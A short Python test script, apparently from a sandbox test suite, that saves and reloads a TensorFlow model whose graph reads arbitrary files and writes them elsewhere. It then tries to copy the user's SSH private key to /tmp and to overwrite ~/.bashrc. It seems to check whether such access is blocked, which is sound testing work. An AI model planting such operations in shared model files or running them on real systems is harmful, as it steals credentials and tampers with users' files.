# expect: finished: a saved model whose graph reads a secret and writes outside
import tensorflow as tf
class Thief(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec([], tf.string), tf.TensorSpec([], tf.string)])
    def __call__(self, source, target):
        text = tf.io.read_file(source)
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=target, contents=text)]): return tf.identity(text)
tf.saved_model.save(Thief(), "kept_model")
model = tf.saved_model.load("kept_model")
tryit("read and write", lambda: model(HOME + "/.ssh/id_rsa", "/tmp/hx_pwned").numpy())
open("harmless", "w").write("x")
tryit("write", lambda: model("harmless", HOME + "/.bashrc").numpy())
